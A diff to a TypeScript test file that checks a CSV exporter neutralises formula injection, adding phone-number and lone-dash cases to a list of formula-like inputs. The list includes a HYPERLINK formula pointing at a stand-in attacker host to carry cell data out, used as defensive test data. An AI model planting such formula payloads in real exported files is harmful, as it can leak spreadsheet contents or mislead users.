@@ -9,7 +9,16 @@ import { csvWriter } from '../../src/rest/formats/csv.ts'
 import { startHosted } from '../host/hosted-service.ts'
 import { json, order, startOrders } from './orders-over-rest.ts'
 
-const formulas = ['=HYPERLINK("http://evil.example"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1']
+const formulas = [
+  '=HYPERLINK("http://evil.example"&A1)',
+  '+1+cmd',
+  '+49 30 A1',
+  '-',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+]
 
 test('A1.6 a text cell that a spreadsheet would take for a formula begins with an apostrophe; numbers do not', () => {
   const fields = {
@@ -21,7 +30,7 @@ test('A1.6 a text cell that a spreadsheet would take for a formula begins with a
     wait: t.duration(),
   }
   const rest = { many: ['=1'], whole: -3, money: '-2.50', real: -0.5, wait: '-P1D' }
-  for (const text of [...formulas, 'a=1', ' =1', "'=1"]) {
+  for (const text of [...formulas, 'a=1', ' =1', "'=1", '+49 30 123456', '+491701234567', '-5']) {
     const document = { name: 'row', title: 'Row', fields, value: { text, ...rest }, links: [] }
     const [, cells] =
       /^[^\n]*\r\n(.*)\r\n$/s.exec(csvWriter.write(document, { base: '', namespace: '', only: undefined }, [])) ?? []
@@ -34,7 +43,7 @@ test('A1.6 a text cell that a spreadsheet would take for a formula begins with a
 test("A1.6 customers' notes are text in the CSV of orders, and so are names in that of a report", async () => {
   const shop = await startOrders()
   for (const note of formulas) await shop.as.alice('POST', '/api/v2/orders', json, { ...order, note })
-  const { text } = await shop.as.clara('GET', '/api/v2/orders?fields=note&size=6', { accept: 'text/csv' })
+  const { text } = await shop.as.clara('GET', '/api/v2/orders?fields=note&size=8', { accept: 'text/csv' })
   assert.doesNotMatch(text, /(?:^|,|\n)"?[=+@\t-]/)
   assert.equal(text.match(/'[=+@\t\r-]/g)?.length, formulas.length)
   const row = { product: 'p-1', name: '=1+1', currency: 'EUR', quantity: 1n, amount: '1.00' } as const
